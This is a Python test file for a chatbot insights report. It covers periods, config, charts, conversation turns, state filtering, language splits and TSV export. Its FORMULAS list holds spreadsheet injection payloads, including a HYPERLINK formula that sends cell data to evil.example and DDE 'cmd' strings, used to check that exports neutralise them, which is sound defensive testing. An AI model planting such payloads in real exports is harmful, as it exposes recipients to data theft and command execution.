"""The insights report's parts without servers: the period, the endpoints configuration,
the charts, how stored events become turns, and the declined-questions TSV's cells (the
end-to-end test with a real database is tests/e2e/test_insights_e2e.py; signing in to the
site's page is tests/unit/webapp/test_insights_auth.py)."""

from __future__ import annotations

import datetime as dt
import json
import re
import sqlite3
from html import escape as escape_html

import pytest

from insights import charts, store, tsv
from insights.clusters import Cluster
from insights.metrics import Question, compute
from insights.period import Period, parse_period
from insights.store import StoredEvent
from insights.turns import ANSWERED, CLARIFIED, DECLINED, OTHER, read_turns

TODAY = dt.date(2026, 11, 28)


def test_period_defaults_to_the_last_30_days_and_says_what_is_wrong():
    assert parse_period(None, None, TODAY) == Period(dt.date(2026, 10, 30), TODAY)
    assert parse_period("2026-11-01", "2026-11-30", TODAY) == Period(
        dt.date(2026, 11, 1), dt.date(2026, 11, 30)
    )
    with pytest.raises(ValueError, match="YYYY-MM-DD"):
        parse_period("11/01/2026", None, TODAY)
    with pytest.raises(ValueError, match="after it ends"):
        parse_period("2026-11-30", "2026-11-01", TODAY)
    period = Period(TODAY, TODAY)
    assert period.end - period.start == 24 * 3600
    assert period.start in period and period.end not in period


def test_endpoints_variables_are_filled_from_the_environment(tmp_path):
    endpoints = tmp_path / "endpoints.yml"
    endpoints.write_text(
        "tracker_store:\n  type: x\n  dialect: postgresql\n  password: ${PG_PASSWORD}\n"
    )
    config = store.tracker_store_config(endpoints, env={"PG_PASSWORD": "pw"})
    assert config["password"] == "pw" and config["dialect"] == "postgresql"
    with pytest.raises(KeyError, match="PG_PASSWORD"):
        store.tracker_store_config(endpoints, env={})


def test_sqlite_is_opened_read_only(tmp_path):
    db = tmp_path / "tracker.db"
    with sqlite3.connect(db) as connection:
        connection.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, data TEXT)")
    engine = store.open_read_only({"dialect": "sqlite", "db": str(db)})
    with engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM events").scalar() == 0
    with pytest.raises(Exception, match="readonly"):
        with engine.begin() as connection:
            connection.exec_driver_sql("INSERT INTO events (data) VALUES ('x')")
    with pytest.raises(FileNotFoundError):
        store.open_read_only({"dialect": "sqlite", "db": str(tmp_path / "missing.db")})


def test_charts_use_no_style_attribute_and_label_every_bar():
    svg = charts.paired_bar_chart("t", ("conversations", "messages"), [("Mon", 3, 12)])
    svg += charts.bar_chart("t", [("A topic with a rather long title, cut at forty", 7)])
    svg += charts.share_bar("t", [("answered", 3), ("clarified", 1), ("declined", 0)])
    assert "style=" not in svg and "<script" not in svg
    texts = re.findall(r">([^<>]+)</text>", svg)
    assert {"3", "12", "7"} <= set(texts)
    assert "answered: 3 (75 %)" in texts and "declined: 0 (0 %)" in texts
    assert any(t.endswith("…") for t in texts)


def _event(sender: str, kind: str, t: float, **data) -> StoredEvent:
    return StoredEvent(sender, kind, t, {"event": kind, "timestamp": t, **data})


def _user(sender: str, t: float, text: str, intent: str, channel: str = "rest", **entities):
    return _event(
        sender,
        "user",
        t,
        text=text,
        input_channel=channel,
        parse_data={
            "intent": {"name": intent},
            "intent_ranking": [{"name": intent, "confidence": 0.4}],
            "entities": [{"entity": k, "value": v} for k, v in entities.items()],
        },
    )


def _slot(sender: str, t: float, name: str, value) -> StoredEvent:
    return _event(sender, "slot", t, name=name, value=value)


def test_turns_read_outcomes_and_feedback_follows_a_clarified_question():
    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    events = [
        _event("p1", "session_started", t),
        _slot("p1", t, "last_topic", "cost"),  # carried over at session start: no turn
        _user("p1", t + 1, "the deal with meetings", "nlu_fallback"),
        _slot("p1", t + 1, "fallback_stage", "clarifying"),
        _user("p1", t + 2, "/ask_scheduling", "ask_scheduling"),
        _slot("p1", t + 2, "last_topic", "scheduling"),
        _user("p1", t + 3, '/feedback{"helpful":"no","topic":"scheduling"}', "feedback",
              helpful="no", topic="scheduling"),
        _user("p1", t + 4, "what's the weather", "out_of_scope"),
        _event("p1", "bot", t + 4, metadata={"utter_action": "utter_out_of_scope"}),
        _slot("p1", t + 4, "fallback_stage", "declined"),
        _event("p1", "session_started", t + 5000),
        _user("p1", t + 5001, "hi", "greet", channel="socketio"),
    ]  # fmt: skip
    turns = read_turns(events)
    assert [turn.outcome for turn in turns] == [CLARIFIED, ANSWERED, OTHER, DECLINED, OTHER]
    figures = compute(turns, Period(TODAY, TODAY))
    assert figures.conversations == 2 and figures.messages == 5
    assert figures.per_channel["rest"].conversations == 1
    assert figures.per_channel["socketio"].messages == 1
    # "Did you mean…", a tap on a topic, then "not helpful": the question is the first one.
    assert figures.feedback["scheduling"].not_helpful_questions == ["the deal with meetings"]
    assert [q.text for q in figures.not_helpful] == ["the deal with meetings"]
    assert [(q.text, q.suggested_intent) for q in figures.declined] == [
        ("what's the weather", "out_of_scope")
    ]
    assert (
        compute(turns, Period(TODAY + dt.timedelta(days=1), TODAY + dt.timedelta(days=1))).messages
        == 0
    )


JUNK_STATES = ["XX", None, 42, "<b>", ["PA"], {"code": "OH"}, "", "Pennsylvania"]


def test_a_report_skips_state_values_that_are_no_known_state(tmp_path, monkeypatch, kb):
    """Conversations stored with ``us_state`` "XX" (a typed ``/give_state{"us_state":"XX"}``,
    before the slot refused it), None, a number or markup: ``make report`` still writes the
    report, and counts only the known states."""
    from collections import Counter

    from insights.html_report import render
    from insights.report import build_from_config
    from scripts import report as report_script

    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    db = tmp_path / "tracker.db"
    rows = []
    for n, junk in enumerate(JUNK_STATES):  # one conversation per junk value, nothing else
        rows += [_user(f"junk{n}", t + n, "/give_state", "give_state")]
        rows += [_slot(f"junk{n}", t + n, "us_state", junk)]
    rows += [  # junk then a real state in one conversation; a real one in lower case
        _user("pa", t, "/give_state", "give_state"), _slot("pa", t, "us_state", "XX"),
        _user("pa", t + 1, "PA mom here", "give_state"), _slot("pa", t + 1, "us_state", "PA"),
        _user("oh", t, "we're in ohio", "give_state"), _slot("oh", t, "us_state", " oh "),
    ]  # fmt: skip
    with sqlite3.connect(db) as connection:
        connection.execute(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
            "timestamp REAL, data TEXT)"
        )
        connection.executemany(
            "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES (?, ?, ?, ?)",
            [(e.sender_id, e.type_name, e.timestamp, json.dumps(e.data)) for e in rows],
        )
    endpoints = tmp_path / "endpoints.yml"
    endpoints.write_text(f"tracker_store:\n  type: x\n  dialect: sqlite\n  db: {db}\n")
    period = Period(TODAY, TODAY)

    report = build_from_config(period, endpoints)
    assert report.insights.conversations == len(JUNK_STATES) + 2
    assert report.insights.states == Counter({"PA": 1, "OH": 1})
    page = render(report.insights, report.clusters, kb, tsv_href="declined.tsv")
    states = page[page.index('id="states"') :]
    assert "Pennsylvania" in states and "Ohio" in states and "XX" not in states

    out = tmp_path / "report"  # `make report`, as the content owner runs it
    monkeypatch.setattr(
        "sys.argv",
        ["report", "--since", "2026-11-28", "--until", "2026-11-28", "--out", str(out),
         "--endpoints", str(endpoints)],
    )  # fmt: skip
    assert report_script.main() == 0
    assert "Pennsylvania" in (out / "report.html").read_text(encoding="utf-8")


def test_figures_and_the_page_skip_a_state_that_is_no_known_state(kb):
    """Each layer on its own: turns read from junk events, a hand-made turn, the page."""
    from collections import Counter

    from insights.html_report import render
    from insights.metrics import Insights

    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    events = [_user("p", t, "/give_state", "give_state")]
    events += [_slot("p", t, "us_state", junk) for junk in JUNK_STATES]
    [turn] = read_turns(events)
    assert turn.states == []
    turn.states = ["XX", "<b>", "TX"]  # a turn built elsewhere
    assert compute([turn], Period(TODAY, TODAY)).states == Counter({"TX": 1})
    page = render(Insights(Period(TODAY, TODAY), states=Counter({"XX": 3})), [], kb, "d.tsv")
    assert "No parent named a state in this period." in page


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click for help")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1',  # a quoted field in a spreadsheet's eyes
    "\t=1+1",
    "\r\n=2+2",
]
# What a spreadsheet could take for a formula, or for the start of a quoted field (OWASP).
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", '"')


def test_tsv_cells_cannot_run_as_formulas_nor_start_new_cells_or_rows():
    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    texts = FORMULAS + ["what is mediation?", "a tab\there, a line\nthere =1+1"]
    questions = [Question(text, "declined", t + i, "out_of_scope") for i, text in enumerate(texts)]
    questions.append(Question("-anything", "declined", t + 99, "=evil()"))
    clusters = [Cluster(size=len(questions), examples=[], questions=questions)]
    text = tsv.declined_tsv(clusters, Period(TODAY, TODAY))
    lines = text.splitlines()
    header, *data = [line.split("\t") for line in lines if not line.startswith("#")]
    assert len(data) == len(questions)  # one row each: no tab or line break made more
    assert all(len(row) == len(header) for row in data)
    assert all(not cell.startswith(DANGEROUS_STARTS) for row in data for cell in row)
    cells = {row[0]: row for row in data}
    assert cells['\'=HYPERLINK("http://evil.example/?"&A1,"click for help")']
    assert cells["'+cmd|' /C calc'!A0"] and cells["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert cells["'=1+1"] and cells["'=2+2"]  # whitespace collapsed first, then guarded
    assert cells["'\"=1+1"]
    assert cells["what is mediation?"][1] == "out_of_scope"  # ordinary text is as typed
    assert cells["a tab here, a line there =1+1"]
    assert cells["'-anything"][1] == "'=evil()"  # every text cell, the intent included
    comments = [line for line in lines if line.startswith("#")]
    assert any("drop that '" in line for line in comments)  # the owner is told


def _spanish_events(t: float) -> list:
    """Three conversations: Spanish from its first message, one carried over into a new
    session in Spanish, one that switches from English to Spanish."""
    return [
        _event("es1", "session_started", t),
        _slot("es1", t, "language", "en"),  # the initial value, carried over
        _user("es1", t + 1, "¿la mediación es gratis?", "ask_cost", language="es"),
        _slot("es1", t + 1, "language", "es"),
        _slot("es1", t + 1, "last_topic", "cost"),
        _user("es1", t + 2, "¿el autobús llega tarde?", "out_of_scope"),
        _event("es1", "bot", t + 2, metadata={"utter_action": "utter_out_of_scope"}),
        _event("es1", "session_started", t + 5000),
        _slot("es1", t + 5000, "language", "es"),  # carried over: Spanish from the start
        _user("es1", t + 5001, "hola", "greet"),
        _user("en1", t, "is mediation free?", "ask_cost"),
        _slot("en1", t, "last_topic", "cost"),
        _user("en1", t + 1, "when does the bus come", "out_of_scope"),
        _event("en1", "bot", t + 1, metadata={"utter_action": "utter_out_of_scope"}),
        _user("en1", t + 2, "en español por favor", "switch_to_spanish"),
        _slot("en1", t + 2, "language", "es"),
        _user("en1", t + 3, "¿necesito un abogado?", "ask_attorneys"),
        _slot("en1", t + 3, "last_topic", "attorneys"),
        _user("xx", t, "hello", "greet"),
        _slot("xx", t, "language", "fr"),  # no language the slot allows: English
    ]  # fmt: skip


def test_turns_and_figures_carry_the_conversations_language():
    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    turns = read_turns(_spanish_events(t))
    assert [(turn.sender_id, turn.language) for turn in turns] == [
        ("es1", "es"), ("es1", "es"), ("es1", "es"),
        ("en1", "en"), ("en1", "en"), ("en1", "es"), ("en1", "es"),
        ("xx", "en"),
    ]  # fmt: skip
    figures = compute(turns, Period(TODAY, TODAY))
    english, spanish = figures.languages["en"], figures.languages["es"]
    assert list(figures.languages) == ["en", "es"]
    # en1 ended in Spanish: it counts once, there; its questions where they were asked.
    assert (english.conversations, spanish.conversations) == (1, 3)
    assert (english.messages, spanish.messages) == (3, 5)
    assert (english.outcomes[ANSWERED], english.outcomes[DECLINED]) == (1, 1)
    assert (spanish.outcomes[ANSWERED], spanish.outcomes[DECLINED]) == (2, 1)
    assert spanish.questions == 3 and spanish.share(DECLINED) == pytest.approx(1 / 3)
    assert [(q.text, q.language) for q in figures.declined] == [
        ("¿el autobús llega tarde?", "es"),
        ("when does the bus come", "en"),
    ]
    # Nothing in Spanish: the language is still there, with zeros.
    only_english = compute([turns[3]], Period(TODAY, TODAY))
    assert only_english.languages["es"].conversations == 0
    assert only_english.languages["en"].conversations == 1


def test_the_page_and_the_tsv_split_the_declined_questions_by_language(kb):
    from insights.clusters import cluster_by_language
    from insights.html_report import render

    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    figures = compute(read_turns(_spanish_events(t)), Period(TODAY, TODAY))
    groups = cluster_by_language(figures.declined + figures.not_helpful)
    assert [(g.language, [q.text for q in g.questions]) for g in groups] == [
        ("en", ["when does the bus come"]),
        ("es", ["¿el autobús llega tarde?"]),
    ]
    page = render(figures, groups, kb, tsv_href="declined.tsv")
    table = page[page.index('<table class="languages">') : page.index("</table>")]
    cells = re.findall(r"<t[hd][^>]*>([^<]*)</t[hd]>", table)
    assert cells[:3] == ["", "English", "Spanish (español)"]
    rows = {cells[i]: cells[i + 1 : i + 3] for i in range(3, len(cells), 3)}
    assert rows["conversations"] == ["1", "3"]
    assert rows["questions"] == ["2", "3"]
    assert rows["answered"] == ["1 (50 %)", "2 (67 %)"]
    assert rows["declined"] == ["1 (50 %)", "1 (33 %)"]
    clusters = page[page.index('id="clusters"') :]
    english = clusters[clusters.index('id="clusters-en"') : clusters.index('id="clusters-es"')]
    spanish = clusters[clusters.index('id="clusters-es"') :]
    assert "when does the bus come" in english and "autobús" not in english
    assert escape_html("¿el autobús llega tarde?") in spanish and "bus come" not in spanish
    assert '<li class="cluster" value="2">' in spanish and 'lang="es"' in spanish

    text = tsv.declined_tsv(groups, Period(TODAY, TODAY))
    lines = [line.split("\t") for line in text.splitlines()]
    header, *data = [line for line in lines if not line[0].startswith("#")]
    assert header[-1] == "language"
    assert [(row[0], row[4], row[5]) for row in data] == [
        ("when does the bus come", "1", "en"),
        ("¿el autobús llega tarde?", "2", "es"),
    ]
    assert any("data/nlu/es/" in line[0] for line in lines if line[0].startswith("#"))


def test_a_page_with_no_spanish_says_so(kb):
    from insights.clusters import cluster_by_language
    from insights.html_report import render

    t = dt.datetime(2026, 11, 28, 10, tzinfo=dt.timezone.utc).timestamp()
    turns = read_turns(_spanish_events(t))[3:5]  # en1's English turns only
    figures = compute(turns, Period(TODAY, TODAY))
    page = render(figures, cluster_by_language(figures.declined), kb, tsv_href="d.tsv")
    assert "None in Spanish (español)." in page
    assert "Questions in Spanish (español): 0" in page and "Questions in English: 1" in page
